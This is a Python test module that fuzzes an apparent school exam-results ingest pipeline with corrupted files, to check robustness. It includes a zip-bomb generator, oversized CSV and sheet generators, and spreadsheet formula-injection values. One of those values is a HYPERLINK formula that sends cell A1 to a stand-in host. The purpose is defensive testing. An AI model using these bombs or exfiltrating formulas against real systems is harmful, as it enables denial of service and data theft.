"""Hostile and corrupted input through the pipeline: every input row is loaded or set aside
with a reason (msoko/accounting.py), and oversized files are refused within a memory bound.

Fuzzing (hypothesis, derandomized so CI is repeatable): real-layout files of the demo inbox
(FIS OKO exports in both header layouts, the school upload form, RCOI protocols in xlsx and
cp1251 csv) are corrupted — truncated zips, shuffled columns, random cell values, csv
re-encoded in a wrong encoding — and
  * test_parse_level_fuzz reads each one through the ingest parser alone (fast, no dbt);
  * the shared `hostile_run` puts the whole demo inbox plus a batch of fuzzed copies and
    three resource-bomb files into ONE `msoko run` (a subprocess, so its peak memory is
    measured alone), and the tests below query what it published.
"""
from __future__ import annotations

import os
import random
import subprocess
import sys
import zipfile
from dataclasses import replace
from pathlib import Path

import duckdb
import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from ingest import cells
from ingest.batch import archive_inbox, parse_file
from ingest.inbox import file_sha256, scan_inbox
from ingest.readers import UnreadableFile, read_table_file
from ingest.reference import load_reference
from msoko.accounting import ACCOUNTING_SQL
from msoko.config import REPO_ROOT
from msoko.demo.layouts import write_csv, write_xlsx
from msoko.demo.municipality import write_demo_inbox

FUZZED_FILES = 24
# A run over the demo inbox plus the hostile files must stay below this peak resident memory
# (measured ≈0.5 GB on the 2-core CI machine; the readers refuse before materialising a bomb).
MEMORY_BOUND_BYTES = 1536 * 2**20
ENCODINGS = ["utf-8", "utf-8-sig", "cp1251", "koi8-r", "utf-16", "cp866"]
ODD_VALUES = ["", " ", "Х", "х", "X", "=1+2", "=HYPERLINK(\"http://evil\",\"5\")", "+7", "-1",
              "1e309", "NaN", "NULL", "٣", "５", "\u00a0", "12,5", "3.0", "99999999999999999999",
              "отсутствовал", "sch000000", "\x00", "💥"]


# --------------------------------------------------------------------------- corruption

def _is_header(row: list[str]) -> bool:
    return sum(1 for v in row if v.strip()) >= 4


def data_rows(rows: list[list[str]]) -> int:
    """Non-blank rows below the header: what the parser must account for, one by one."""
    header = next((i for i, row in enumerate(rows) if _is_header(row)), None)
    if header is None:
        return 0
    return sum(1 for row in rows[header + 1:] if any(cells.squash(v) for v in row))


corruption = st.one_of(
    st.tuples(st.just("truncate"), st.floats(0.02, 0.98)),
    st.tuples(st.just("shuffle"), st.integers(0, 2**32)),      # the seed of the permutation
    st.tuples(st.just("cells"), st.lists(
        st.tuples(st.integers(0, 10_000), st.integers(0, 100),
                  st.one_of(st.sampled_from(ODD_VALUES), st.text(max_size=40),
                            st.integers(-10**6, 10**6).map(str))),
        min_size=1, max_size=30)),
    st.tuples(st.just("encoding"), st.sampled_from(ENCODINGS)),
)


def corrupt(source: Path, target: Path, how) -> tuple[Path, int | None]:
    """Write a corrupted copy of source to target (a csv suffix when re-encoded). Returns the
    path and how many data rows the copy holds, None when the bytes themselves are damaged."""
    kind, arg = how
    target.parent.mkdir(parents=True, exist_ok=True)
    data = source.read_bytes()
    if kind == "truncate":
        target.write_bytes(data[:max(1, int(len(data) * arg))])
        return target, None
    try:
        rows = [list(r) for r in read_table_file(source)[0].rows]
    except UnreadableFile:      # a file the demo breaks on purpose: copy it as it is
        target.write_bytes(data)
        return target, None
    if not any(_is_header(row) for row in rows):
        target.write_bytes(data)
        return target, None
    header = next(i for i, row in enumerate(rows) if _is_header(row))
    if kind == "shuffle":
        width = max(len(r) for r in rows)
        order = list(range(width))
        random.Random(arg).shuffle(order)
        rows = [[(r[c] if c < len(r) else "") for c in order] for r in rows]
    elif kind == "cells":
        body = len(rows) - header - 1
        for r, c, value in arg:
            if body <= 0:
                break
            row = rows[header + 1 + r % body]
            row[c % len(row)] = value.replace("\x00", "")   # xlsx cannot hold NUL
    if kind == "encoding" or source.suffix == ".csv":
        encoding = arg if kind == "encoding" else "cp1251"
        target = target.with_suffix(".csv")
        rows = [[v.encode(encoding, "replace").decode(encoding) for v in r] for r in rows]
        write_csv(target, rows[0], rows[1:], delimiter=";", encoding=encoding,
                  lineterminator="\r\n")
    else:
        write_xlsx(target, [("Лист1", rows)])
    return target, data_rows(rows)


def _draw(strategy, n: int) -> list:
    """Up to n distinct values of strategy, the same on every machine (no example database,
    no shrinking): each example hypothesis generates is kept."""
    drawn = []

    @settings(max_examples=n, derandomize=True, database=None, phases=[Phase.generate],
              deadline=None, suppress_health_check=list(HealthCheck))
    @given(strategy)
    def pick(value):
        drawn.append(value)

    pick()
    return drawn


# --------------------------------------------------------------------------- hostile files

def write_zip_bomb(path: Path) -> None:
    """A 120 MB sheet of one repeated cell that deflates to ≈120 KB (ratio ≈1000)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        z.writestr("xl/workbook.xml", "<workbook/>")
        row = "<row>" + "<c t=\"inlineStr\"><is><t>0</t></is></c>" * 1000 + "</row>"
        z.writestr("xl/worksheets/sheet1.xml",
                   "<worksheet><sheetData>" + row * 3000 + "</sheetData></worksheet>")


def write_million_rows(path: Path) -> None:
    """An RCOI-like protocol with 1,000,000 rows × 6 columns (≈40 MB, 6M cells)."""
    line = "900001;{:08d};математика;12;4;5\r\n"
    with path.open("w", encoding="utf-8", newline="") as fh:
        fh.write("код ОО;код участника;предмет;первичный балл;отметка;годовая отметка\r\n")
        for i in range(1_000_000):
            fh.write(line.format(i))


def write_wide_sheet(path: Path) -> None:
    """A FIS OKO-named sheet 16,000 columns wide."""
    header = ["логин школы", "код", "вариант"] + [f"балл за {k}" for k in range(1, 15_998)]
    write_xlsx(path, [("Лист1", [header, ["sch000000", "1", "1"] + [1] * 15_997])])


HOSTILE = {
    "2022-2023/vpr-spring/bomb/Проведение работы по математике, 4 класс. ВПР 2023.xlsx": write_zip_bomb,
    "2022-2023/oge/Протокол ОГЭ 2023 миллион.csv": write_million_rows,
    "2022-2023/vpr-spring/wide/Проведение работы по математике, 4 класс. ВПР 2023.xlsx": write_wide_sheet,
}


FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"5")'
FORMULA_TRAP = "2022-2023/vpr-spring/sch708001/formula/"


def write_formula_trap(inbox: Path) -> Path:
    """A copy of a school's real file whose first criterion cell of the first pupil holds a
    formula: the row is set aside and its value shown in the workbook, as text."""
    source = sorted((inbox / FORMULA_TRAP).parent.glob("*.xlsx"))[0]
    rows = [list(r) for r in read_table_file(source)[0].rows]
    header = next(i for i, row in enumerate(rows) if _is_header(row))
    column = next(i for i, h in enumerate(rows[header]) if "балл за 1" in h)
    rows[header + 1][column] = FORMULA
    return write_xlsx(inbox / FORMULA_TRAP / source.name, [("Лист1", rows)])


def fuzz_sources(inbox: Path) -> list[Path]:
    """Real-layout result files of the demo inbox (one of each layout and window)."""
    files, _ = scan_inbox(inbox)
    return [f.path for f in files]


def run_over_hostile_inbox(root: Path) -> dict:
    """The demo inbox plus fuzzed copies and the hostile files, through one `msoko run` in a
    subprocess. The session's `hostile_run` fixture (tests/conftest.py) calls it once for
    this module and test_privacy."""
    inbox, home = root / "inbox", root / "home"
    write_demo_inbox(inbox)
    sources = fuzz_sources(inbox)
    seen = {file_sha256(p) for p in sources}
    expected = {}
    for n, (pick, how) in enumerate(_draw(st.tuples(st.integers(0, 10**6), corruption),
                                          FUZZED_FILES)):
        source = sources[pick % len(sources)]
        rel = source.relative_to(inbox)
        # A sub-folder keeps the school folder (parts[2]) and the FIS OKO file name.
        target = inbox / rel.parts[0] / rel.parts[1] / f"fuzz{n:02d}" / rel.name
        if len(rel.parts) == 4:
            target = inbox / Path(*rel.parts[:3]) / f"fuzz{n:02d}" / rel.name
        path, written = corrupt(source, target, how)
        # The same bytes twice would be one file version at two paths (see the report):
        # keep every fuzzed file distinct from the others and from the demo's files.
        digest = file_sha256(path)
        if digest in seen:
            path.unlink()
            continue
        seen.add(digest)
        expected[path] = (how[0], written)
    write_formula_trap(inbox)
    for rel, write in HOSTILE.items():
        (inbox / rel).parent.mkdir(parents=True, exist_ok=True)
        write(inbox / rel)
    env = {**os.environ, "MSOKO_INBOX": str(inbox), "MSOKO_HOME": str(home)}
    env.pop("MSOKO_FAULT", None)
    with open(root / "run.log", "w") as log:
        proc = subprocess.Popen([sys.executable, "-m", "msoko.cli", "run"], cwd=REPO_ROOT,
                                env=env, stdout=log, stderr=subprocess.STDOUT)
        _, status, usage = os.wait4(proc.pid, 0)
    proc.returncode = os.waitstatus_to_exitcode(status)
    return {"inbox": inbox, "home": home, "returncode": proc.returncode,
            "demo_files": len(sources),
            "log": (root / "run.log").read_text(), "expected": expected,
            # ru_maxrss is in KiB on Linux: the largest process of the run (msoko or dbt)
            "peak_rss": usage.ru_maxrss * 1024}


def published(run):
    return duckdb.connect(str(run["home"] / "published" / "msoko.duckdb"), read_only=True)


# --------------------------------------------------------------------------- tests

@pytest.mark.slow
def test_run_over_hostile_inbox_completes(hostile_run):
    assert hostile_run["returncode"] == 0, hostile_run["log"][-4000:]


@pytest.mark.slow
def test_every_row_is_loaded_or_set_aside_with_a_reason(hostile_run):
    con = published(hostile_run)
    try:
        rows = con.execute(ACCOUNTING_SQL).fetchall()
        unbalanced = con.execute(f"select * from ({ACCOUNTING_SQL}) where not balanced").fetchall()
        by_path = {r[0]: r for r in rows}
        demo_rows = con.execute("select sum(rows_read) from audit.files where path not like '%fuzz%'"
                                " and status <> 'rejected'").fetchone()[0]
    finally:
        con.close()
    assert unbalanced == []
    # every result file has its line: the demo's, the fuzzed ones, the bombs, the formula trap
    assert len(rows) == (hostile_run["demo_files"] + len(hostile_run["expected"])
                         + len(HOSTILE) + 1)
    assert len(hostile_run["expected"]) >= FUZZED_FILES * 2 // 3
    assert demo_rows > 10_000
    # Independent count: every fuzzed copy that was still a readable table and was accepted
    # has exactly the non-blank data rows that were written into it.
    inbox = hostile_run["inbox"]
    checked = 0
    for path, (kind, written) in hostile_run["expected"].items():
        rel = path.relative_to(inbox).as_posix()
        assert rel in by_path, rel
        _, _, status, rows_read, *_ = by_path[rel]
        if status != "rejected" and written is not None:
            assert rows_read == written, (rel, kind)
            checked += 1
    assert checked >= 5


@pytest.mark.slow
def test_resource_bombs_are_refused_with_a_message(hostile_run):
    con = published(hostile_run)
    try:
        refused = dict((p, (s, m)) for p, s, m in con.execute(
            "select path, status, message from audit.files where path in ?",
            [list(HOSTILE)]).fetchall())
    finally:
        con.close()
    assert set(refused) == set(HOSTILE)
    for path, (status, message) in refused.items():
        assert status == "rejected", path
        assert message.startswith("Файл не прочитан"), (path, message)
    assert hostile_run["peak_rss"] < MEMORY_BOUND_BYTES, hostile_run["peak_rss"]


# --------------------------------------------------------------------------- parse level

@pytest.fixture(scope="module")
def parse_env(tmp_path_factory):
    root = tmp_path_factory.mktemp("parsefuzz")
    inbox = root / "inbox"
    write_demo_inbox(inbox)
    archived = archive_inbox(inbox, root / "archive")
    reference = load_reference(archived.references, archived.archived)
    return inbox, archived, reference, reference.lookup()


@settings(max_examples=40, deadline=None, derandomize=True, database=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(pick=st.integers(0, 10**6), how=corruption)
def test_parse_level_fuzz(parse_env, pick, how):
    """Any corruption of a real file ends as a parsed file whose every row is kept as a
    candidate row, or a rejected file with a Russian message — never an exception."""
    inbox, archived, reference, lookup = parse_env
    item = archived.files[pick % len(archived.files)]
    rel = Path(item.rel_path)
    target = inbox / Path(*rel.parts[:-1]) / "fuzz" / rel.name
    for old in target.parent.glob("*"):
        old.unlink()
    path, written = corrupt(item.path, target, how)
    fuzzed = replace(item, path=path, rel_path=path.relative_to(inbox).as_posix(),
                     size=path.stat().st_size, sha256=file_sha256(path))
    parsed = parse_file(fuzzed, fuzzed.path, reference, lookup)
    if parsed.status == "rejected":
        assert parsed.message and any("а" <= ch <= "я" for ch in parsed.message.lower())
        assert parsed.rows == []
    else:
        assert len(parsed.rows) == parsed.rows_read
        assert len({r["row_number"] for r in parsed.rows}) == parsed.rows_read
        if written is not None:
            assert parsed.rows_read == written


@pytest.mark.parametrize("text", ["1e309", "-1e309", "inf", "nan", "NaN"])
def test_number_overflow_in_a_cell_is_a_bad_value_not_a_crash(text):
    """Found by the pipeline fuzz: «1e309» in a score cell raised OverflowError and failed
    the whole run for every school."""
    assert cells.parse_int(text) is None
    assert cells.criterion(text)[2] is True       # set aside as a bad cell, with a message
